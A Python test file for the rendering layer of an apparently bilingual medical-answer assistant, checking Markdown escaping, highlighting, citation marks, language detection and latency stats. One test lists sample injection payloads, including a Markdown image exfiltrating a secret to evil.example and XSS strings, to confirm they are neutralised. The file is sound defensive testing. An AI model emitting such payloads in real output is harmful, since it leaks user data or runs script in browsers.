"""Safe rendering: escaped Markdown cannot carry links, images, HTML or directives (issue 5)."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.domain import AnswerSentence
from ui.audit_charts import latency_percentiles
from ui.i18n import CATALOGUE, language_from_header
from ui.render import escape_markdown, highlight_passage, sentence_markdown

# An unescaped Markdown/HTML construct: a punctuation character not preceded by a backslash.
_UNESCAPED = re.compile(r"(?<!\\)(?:\\\\)*[<>\[\]()!`*_$:]")


def _unescaped(markdown: str) -> list[str]:
    stripped = re.sub(r"\\.", "", markdown)  # drop every escape pair
    return [c for c in stripped if c in "<>[]()!`*_$:"]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_escaped_text_has_no_live_markdown(text: str) -> None:
    assert _unescaped(escape_markdown(text)) == []


def test_exfiltration_attempts_are_inert() -> None:
    for attack in (
        "![x](https://evil.example/leak?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        ":red[spoof] $\\LaTeX$ `code`",
    ):
        assert _unescaped(escape_markdown(attack)) == []
    # Bare URLs and addresses are broken up so GFM does not autolink them.
    out = escape_markdown("see http://www.cdc.gov/x or a@b.org")
    assert "http\u200b\\:" in out and "www\u200b\\." in out and "@\u200b" in out


def test_highlight_marks_shared_words_and_escapes_the_rest() -> None:
    passage = "Give oseltamivir 75 mg twice daily <b>for</b> 5 days."
    out = highlight_passage(passage, ["Oseltamivir is given twice daily."])
    assert ":orange-background[oseltamivir]" in out
    assert ":orange-background[daily]" in out
    assert "\\<b\\>" in out and "<b>" not in out
    zh = highlight_passage("成人奥司他韦每次75mg，每日2次。", ["奥司他韦的成人剂量是75mg。"])
    assert ":orange-background[成人" in zh and "每日2次" in zh


def test_sentence_carries_markers_and_mark() -> None:
    ok = sentence_markdown(AnswerSentence(text="A [x](y).", citations=[1, 3], supported=True),
                           lang="en")  # fmt: skip
    assert "✓" in ok and "\\[1\\]\\[3\\]" in ok and "(verified)" in ok and "[x](y)" not in ok
    bad = sentence_markdown(AnswerSentence(text="B.", citations=[2]), lang="zh")
    assert "⚠" in bad and "未能核对" in bad


def test_every_string_exists_in_both_languages() -> None:
    assert all(set(entry) == {"zh", "en"} and all(entry.values()) for entry in CATALOGUE.values())


def test_language_from_accept_language() -> None:
    assert language_from_header("zh-CN,zh;q=0.9,en;q=0.8") == "zh"
    assert language_from_header("en-US,en;q=0.9,zh-CN;q=0.8") == "en"
    assert language_from_header("fr-FR,zh-TW;q=0.5") == "zh"
    assert language_from_header("de;q=0.9, en;q=0.1, zh;q=0.5") == "zh"
    assert language_from_header(None) == "en"


def test_latency_percentiles() -> None:
    assert latency_percentiles([]) == (0.0, 0.0)
    p50, p95 = latency_percentiles([float(v) for v in range(1, 101)])
    assert p50 == 50.5 and 95 <= p95 <= 96
